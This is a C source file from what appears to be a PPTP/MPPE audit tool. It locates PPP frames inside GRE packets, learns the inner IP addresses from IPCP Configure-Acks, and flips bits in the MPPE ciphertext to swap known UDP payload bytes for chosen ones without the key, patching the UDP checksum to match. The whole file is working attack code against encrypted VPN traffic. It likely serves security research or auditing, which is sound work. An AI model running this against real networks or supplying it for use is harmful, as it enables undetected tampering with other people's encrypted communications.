/*
 * bitflip.c - flipping MPPE ciphertext bits without the key (see
 * bitflip.h). Every packet is read through the one cursor; the change is
 * written with buf_writer_wrap()/buf_set_u8_at() on the packet itself.
 */
#include <string.h>

#include <arpa/inet.h>

#include "audit/bitflip.h"
#include "core/buf.h"
#include "core/err.h"
#include "gre/gre.h"
#include "mppe/mppe.h"
#include "ppp/ppp_proto.h"

#define IPV4_HDR_MIN 20
#define IPPROTO_GRE_NUM 47
#define IPPROTO_UDP_NUM 17
#define UDP_HDR_LEN 8
#define UDP_CSUM_OFF 6

/*
 * Finds the PPP frame inside an outer IPv4/GRE packet. On success *frame
 * covers the PPP frame (a sub-reader of pkt) and *frame_off is its
 * offset in pkt (IPv4 header plus GRE header); *src is the outer source,
 * *gh the GRE header.
 */
static int
ppp_frame(const uint8_t *pkt, size_t len, uint32_t *src, struct gre_hdr *gh,
    struct buf_reader *frame, size_t *frame_off)
{
	struct buf_reader rd;
	uint8_t vihl, proto;
	uint16_t total;
	size_t ihl;
	int r;

	buf_reader_init(&rd, pkt, len);
	if ((r = buf_peek_u8(&rd, 0, &vihl)) != 0 ||
	    (r = buf_peek_u16(&rd, 2, &total)) != 0 ||
	    (r = buf_peek_u8(&rd, 9, &proto)) != 0)
		return r;
	ihl = (size_t)(vihl & 0x0f) * 4;
	if ((vihl >> 4) != 4 || ihl < IPV4_HDR_MIN || total > len ||
	    total < ihl)
		return PK_ERR_VALUE;
	if (proto != IPPROTO_GRE_NUM)
		return PK_ERR_TYPE;
	if ((r = buf_skip(&rd, 12)) != 0 ||
	    (r = buf_get_bytes(&rd, src, 4)) != 0 ||
	    (r = buf_skip(&rd, ihl - 16)) != 0)
		return r;
	if ((r = gre_decode(buf_cur(&rd), total - ihl, gh, frame)) != 0)
		return r;
	if (!gh->has_seq)
		return PK_ERR_TYPE;	/* an ack-only packet */
	*frame_off = ihl + gre_hdr_len(gh);
	return PK_OK;
}

/* Skips address/control and reads the PPP protocol (RFC 1661 §2,
 * RFC 1662 §3.1), in either compressed form. */
static int
ppp_proto(struct buf_reader *rd, uint16_t *proto)
{
	uint8_t b0, b1;
	int r;

	if (buf_peek_u8(rd, 0, &b0) == 0 && buf_peek_u8(rd, 1, &b1) == 0 &&
	    b0 == PPP_ADDRESS && b1 == PPP_CONTROL)
		(void)buf_skip(rd, PPP_AC_LEN);
	if ((r = buf_get_u8(rd, &b0)) != 0)
		return r;
	if (b0 & 1) {
		*proto = b0;
		return PK_OK;
	}
	if ((r = buf_get_u8(rd, &b1)) != 0)
		return r;
	*proto = (uint16_t)(b0 << 8 | b1);
	return PK_OK;
}

int
bitflip_snoop(const uint8_t *pkt, size_t len, uint32_t outer_client,
    struct bitflip_ipcp *ipcp)
{
	struct buf_reader frame, opts;
	struct gre_hdr gh;
	uint16_t proto, plen;
	uint8_t code, id, type, olen;
	uint32_t src, addr;
	size_t off;
	int r;

	if ((r = ppp_frame(pkt, len, &src, &gh, &frame, &off)) != 0)
		return r == PK_ERR_TYPE ? 0 : r;
	if ((r = ppp_proto(&frame, &proto)) != 0)
		return r;
	if (proto != PPP_PROTO_IPCP)
		return 0;
	if ((r = buf_get_u8(&frame, &code)) != 0 ||
	    (r = buf_get_u8(&frame, &id)) != 0 ||
	    (r = buf_get_u16(&frame, &plen)) != 0)
		return r;
	if (code != PPP_CONFACK || plen < PPP_HDR_LEN ||
	    buf_get_sub(&frame, plen - PPP_HDR_LEN, &opts) != 0)
		return 0;
	/* RFC 1332 §3.3: option 3 is the sender-of-the-request's address;
	 * a Configure-Ack repeats the request it accepts. */
	while (buf_get_u8(&opts, &type) == 0 && buf_get_u8(&opts, &olen) == 0 &&
	    olen >= PPP_OPT_HDR_LEN) {
		struct buf_reader v;

		if (buf_get_sub(&opts, olen - PPP_OPT_HDR_LEN, &v) != 0)
			return PK_ERR_LENGTH;
		if (type != IPCP_OPT_ADDR || olen != IPCP_OPT_ADDR_LEN ||
		    buf_get_bytes(&v, &addr, 4) != 0)
			continue;
		if (src == outer_client)
			ipcp->server_addr = addr;	/* client acks it */
		else
			ipcp->client_addr = addr;
		return 1;
	}
	return 0;
}

static uint32_t
sum16(uint32_t sum, const uint8_t *p, size_t len)
{
	struct buf_reader rd;
	uint16_t w;
	uint8_t b;

	buf_reader_init(&rd, p, len);
	while (buf_get_u16(&rd, &w) == 0)
		sum += w;
	if (buf_get_u8(&rd, &b) == 0)
		sum += (uint32_t)b << 8;	/* RFC 1071: pad with zero */
	return sum;
}

uint16_t
bitflip_udp_checksum(uint32_t src, uint32_t dst, uint16_t sport,
    uint16_t dport, const uint8_t *payload, size_t len)
{
	uint8_t hdr[20];
	struct buf_writer w;
	uint16_t ulen = (uint16_t)(UDP_HDR_LEN + len), c;
	uint32_t sum;

	/* RFC 768: pseudo-header (source, destination, zero, protocol, UDP
	 * length), then the UDP header with a zero checksum, then data. */
	buf_writer_init(&w, hdr, sizeof(hdr));
	buf_put_bytes(&w, &src, 4);
	buf_put_bytes(&w, &dst, 4);
	buf_put_u8(&w, 0);
	buf_put_u8(&w, IPPROTO_UDP_NUM);
	buf_put_u16(&w, ulen);
	buf_put_u16(&w, sport);
	buf_put_u16(&w, dport);
	buf_put_u16(&w, ulen);
	buf_put_u16(&w, 0);
	sum = sum16(sum16(0, hdr, w.len), payload, len);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	c = (uint16_t)~sum;
	return c == 0 ? 0xffff : c;
}

/* XORs mask into ciphertext byte off (ct_off: where the ciphertext
 * starts in the packet) and records it. */
static void
flip(struct buf_writer *w, size_t ct_off, size_t off, uint8_t mask,
    struct bitflip_result *res)
{
	struct bitflip_flip *f;
	struct buf_reader rd;
	uint8_t before;

	if (mask == 0 || res->n_flips >= BITFLIP_FLIPS_MAX)
		return;
	buf_reader_init(&rd, w->data, w->len);
	if (buf_peek_u8(&rd, ct_off + off, &before) != 0)
		return;
	(void)buf_set_u8_at(w, ct_off + off, before ^ mask);
	f = &res->flips[res->n_flips++];
	f->off = off;
	f->before = before;
	f->mask = mask;
	f->after = before ^ mask;
}

int
bitflip_apply(const struct bitflip_target *t,
    const struct bitflip_ipcp *ipcp, uint8_t *pkt, size_t len,
    struct bitflip_result *res)
{
	struct buf_reader frame;
	struct buf_writer w;
	struct gre_hdr gh;
	uint8_t hdr[MPPE_HDR_LEN], newp[BITFLIP_MSG_MAX];
	uint16_t proto, c0 = 0, c1;
	uint32_t src;
	size_t off, frame_len, ct_off, dgram, base;
	int known = ipcp->client_addr != 0 && ipcp->server_addr != 0;

	memset(res, 0, sizeof(*res));
	if (t->payload_len == 0 || t->payload_len > BITFLIP_MSG_MAX ||
	    t->offset + t->repl_len > t->payload_len)
		return PK_ERR_ARG;
	if (ppp_frame(pkt, len, &src, &gh, &frame, &off) != 0 ||
	    src != t->outer_client)
		return 0;
	frame_len = buf_remaining(&frame);
	if (ppp_proto(&frame, &proto) != 0 || proto != PPP_PROTO_COMP ||
	    buf_get_bytes(&frame, hdr, sizeof(hdr)) != 0 ||
	    !(hdr[0] & MPPE_BIT_ENCRYPTED))
		return 0;
	/*
	 * Recognise the datagram by its length alone, as an observer can:
	 * RFC 3078 §3 encrypts [protocol][IPv4 20][UDP 8][payload] and
	 * keeps the length; the protocol field is 1 or 2 bytes (PFC).
	 */
	dgram = IPV4_HDR_MIN + UDP_HDR_LEN + t->payload_len;
	res->ct_len = buf_remaining(&frame);
	if (res->ct_len == dgram + 2)
		res->inner_proto_len = 2;
	else if (res->ct_len == dgram + 1)
		res->inner_proto_len = 1;
	else
		return 0;
	/* Without the addresses no checksum can be computed; only "keep"
	 * (which computes none) can go on. */
	if (!known && t->checksum != BITFLIP_CSUM_KEEP)
		return PK_ERR_STATE;
	ct_off = off + (frame_len - res->ct_len);
	res->call_id = gh.call_id;
	res->gre_seq = gh.seq;
	res->ccount = (uint16_t)((hdr[0] & 0x0f) << 8 | hdr[1]);
	res->flushed = (hdr[0] & MPPE_BIT_FLUSHED) != 0;
	buf_writer_wrap(&w, pkt, len);
	/* The change itself: plaintext XOR (old ^ new) = new. */
	base = res->inner_proto_len + IPV4_HDR_MIN + UDP_HDR_LEN + t->offset;
	for (size_t i = 0; i < t->repl_len; i++)
		flip(&w, ct_off, base + i, t->payload[t->offset + i] ^
		    t->repl[i], res);
	res->csum_flip = res->n_flips;
	if (!known)
		return 1;
	/* The checksum: known plaintext before and after. */
	memcpy(newp, t->payload, t->payload_len);
	memcpy(newp + t->offset, t->repl, t->repl_len);
	c0 = bitflip_udp_checksum(ipcp->client_addr, ipcp->server_addr,
	    t->sport, t->dport, t->payload, t->payload_len);
	c1 = bitflip_udp_checksum(ipcp->client_addr, ipcp->server_addr,
	    t->sport, t->dport, newp, t->payload_len);
	res->csum_before = c0;
	res->csum_after = t->checksum == BITFLIP_CSUM_FIX ? c1 :
	    t->checksum == BITFLIP_CSUM_ZERO ? 0 : c0;
	base = res->inner_proto_len + IPV4_HDR_MIN + UDP_CSUM_OFF;
	flip(&w, ct_off, base, (uint8_t)((c0 ^ res->csum_after) >> 8), res);
	flip(&w, ct_off, base + 1, (uint8_t)(c0 ^ res->csum_after), res);
	return 1;
}
